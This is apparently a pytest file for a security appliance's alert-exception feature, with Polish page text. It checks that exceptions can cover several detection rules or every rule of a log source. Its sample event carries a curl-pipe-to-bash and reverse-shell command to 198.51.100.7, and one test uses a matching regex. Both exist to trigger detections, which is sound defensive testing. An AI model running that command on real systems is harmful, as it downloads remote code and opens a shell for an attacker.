"""The form of an exception offers rules, takes several or every one of a log source, and says what each would lose."""

from __future__ import annotations

from typing import Any

import pytest

from appliance.alerts.grouping import Hit, apply
from appliance.clock import DAY, now
from appliance.detect import Engine, Rule
from appliance.language.dates import local
from appliance.normalise import Event
from appliance.state.database import writing
from appliance.state.models import Role
from appliance.web.pages.cardview import own_title
from appliance.web.pages.render import catalogue
from tests.appliance.web.conftest import TestBox
from tests.appliance.web.pages import sample

COMMAND = "bash -c 'curl http://198.51.100.7/a | bash -i >& /dev/tcp/198.51.100.7/443 0>&1'"


def plain(text: str) -> str:
    return text.replace("\xa0", " ")


@pytest.fixture(scope="module")
def fired(office: TestBox) -> tuple[int, list[Rule]]:
    """Return an alert and the rules that found its event, its own first."""
    event: Event = {
        **sample.started(9700, now(), "pc-wyjatki-01", "www-data", COMMAND),
        "event.id": f"{97:032x}",
    }
    rules = [one for one in Engine(office.context.rules()).match(event) if one.logsource.category == "process_creation"]
    assert len(rules) > 1
    with writing(office.context.sessions) as session:
        numbers = [apply(session, [Hit(one, dict(event))], now(), office.context.settings)[0] for one in rules]
    return numbers[0], rules


def form(office: TestBox, alert: int, **more: Any) -> dict[str, Any]:
    return {
        "alert": str(alert), "chosen": "0", "field": "user.name", "how": "is", "value": "www-data",
        "reason": "EZD", "last": local(now() + DAY).date().isoformat(), "step": "preview",
    } | more  # fmt: skip


def test_rules_beside_the_alert_are_offered(office: TestBox, fired: tuple[int, list[Rule]]) -> None:
    alert, rules = fired
    page = office.ask("GET", f"/wyjatki/nowy?alert={alert}", office.person(Role.OPERATOR)).text
    assert "Reguły z tej samej grupy alertów" in plain(page)
    for one in rules[1:]:
        assert f'name="more" value="{one.id}"' in page
    assert f'name="more" value="{rules[0].id}"' not in page
    assert 'value="re"' in page


def test_rules_are_found_by_words_and_what_is_chosen_stays(office: TestBox, fired: tuple[int, list[Rule]]) -> None:
    alert, rules = fired
    person = office.person(Role.OPERATOR)
    stranger = next(one for one in office.context.rules().rules if one.logsource.product == "windows")
    data = form(office, alert, step="find", words=stranger.id, more=rules[1].id)
    page = office.ask("POST", "/wyjatki/nowy", person, data=data).text
    assert f'name="more" value="{stranger.id}"><span>' in page
    assert f'name="more" value="{rules[1].id}" checked' in page
    assert "Znalezione reguły" in plain(page)
    # Chosen though no alert suggests it: it stays on the form.
    again = office.ask("POST", "/wyjatki/nowy", person, data=form(office, alert, more=stranger.id)).text
    assert f'name="more" value="{stranger.id}" checked' in again
    none = office.ask(
        "POST", "/wyjatki/nowy", person, data=form(office, alert, step="find", words="nie ma takiej")
    ).text
    assert plain(catalogue().text("exceptions.find_none", "pl")) in plain(none)


def test_an_exception_of_several_rules_says_what_each_loses(office: TestBox, fired: tuple[int, list[Rule]]) -> None:
    alert, rules = fired
    person = office.person(Role.OPERATOR)
    data = form(office, alert, more=[one.id for one in rules[1:]])
    page = plain(office.ask("POST", "/wyjatki/nowy", person, data=data).text)
    losses = page.split("Ile ukryłby z każdej reguły")[1]
    assert all(own_title(one.id, "pl") in losses for one in rules)
    made = office.ask("POST", "/wyjatki/nowy", person, data={**data, "step": "send"})
    assert made.status_code == 303
    shown = plain(office.ask("GET", made.headers["location"].split("?")[0], person).text)
    listing = plain(office.ask("GET", "/wyjatki", person).text)
    for one in rules:
        assert f'href="/reguly/{one.id}"' in shown
    assert f"Wyjątek od {len(rules)} reguł" in shown
    assert "i jeszcze" in listing
    item = office.get("/exceptions", person).json()["items"][0]
    assert [one["id"] for one in item["rules"]] == [one.id for one in rules]
    assert {one["id"] for one in item["replay"]["rules"]} == {one.id for one in rules}
    assert (item["rule_id"], item["every_rule_of"]) == (rules[0].id, None)
    mine = office.get(f"/exceptions?rule_id={rules[-1].id}", person).json()["items"]
    assert [one["id"] for one in mine] == [item["id"]]


def test_an_exception_of_every_rule_is_told_loudly(office: TestBox, fired: tuple[int, list[Rule]]) -> None:
    alert, rules = fired
    person = office.person(Role.OPERATOR)
    warning = plain(catalogue().text("exceptions.every_warning", "pl"))
    assert warning in plain(office.ask("GET", f"/wyjatki/nowy?alert={alert}", person).text)
    wide = form(office, alert, kind="0", field="host.name", value="pc-wyjatki-01")
    refused = office.ask("POST", "/wyjatki/nowy", person, data=wide)
    assert refused.status_code == 422
    assert "Nazwa stacji nie wystarczy" in plain(refused.text)
    made = office.ask("POST", "/wyjatki/nowy", person, data=form(office, alert, kind="0", step="send"))
    assert made.status_code == 303
    number = made.headers["location"].split("?")[0]
    shown = plain(office.ask("GET", number, person).text)
    assert warning in shown
    assert "rules: any" in shown
    assert f"Wyjątek od każdej reguły źródła: {rules[0].logsource}" in shown
    assert "Każda reguła źródła" in plain(office.ask("GET", "/wyjatki", person).text)
    item = office.get("/exceptions", person).json()["items"][0]
    assert (item["rule_id"], item["rules"]) == (None, [])
    assert item["every_rule_of"] == {"product": "linux", "category": "process_creation", "service": None}


@pytest.mark.parametrize(
    ("scope", "status", "code"),
    [
        ({}, 422, "exception_scope"),
        ({"rules": ["a"], "every_rule_of": {"product": "linux"}}, 422, "exception_scope"),
        ({"rules": ["a"], "rule_id": "a"}, 422, "exception_scope"),
        ({"rules": ["a"]}, 404, "rule_unknown"),
        ({"every_rule_of": {}}, 422, "exception_no_filter"),
    ],
)
def test_the_api_says_what_is_wrong_with_the_rules(
    office: TestBox, scope: dict[str, Any], status: int, code: str
) -> None:
    body = {
        "conditions": [{"field": "user.name", "value": "svc_ezd"}], "reason": "EZD", "expires_at": now() + DAY, **scope,
    }  # fmt: skip
    answer = office.ask("POST", "/api/v1/exceptions/preview", office.person(Role.ADMIN), json=body)
    assert (answer.status_code, answer.json()["code"]) == (status, code)


def test_the_api_takes_an_expression_for_every_rule(office: TestBox, fired: tuple[int, list[Rule]]) -> None:
    body = {
        "every_rule_of": {"product": "linux"},
        "conditions": [{"field": "process.command_line", "how": "re", "value": r"bash -i >& /dev/tcp/[\d.]+/443"}],
        "reason": "EZD",
        "expires_at": now() + DAY,
    }
    answer = office.ask("POST", "/api/v1/exceptions/preview", office.person(Role.ADMIN), json=body)
    assert answer.status_code == 200
    assert {one.id for one in fired[1]} <= {one["id"] for one in answer.json()["rules"]}
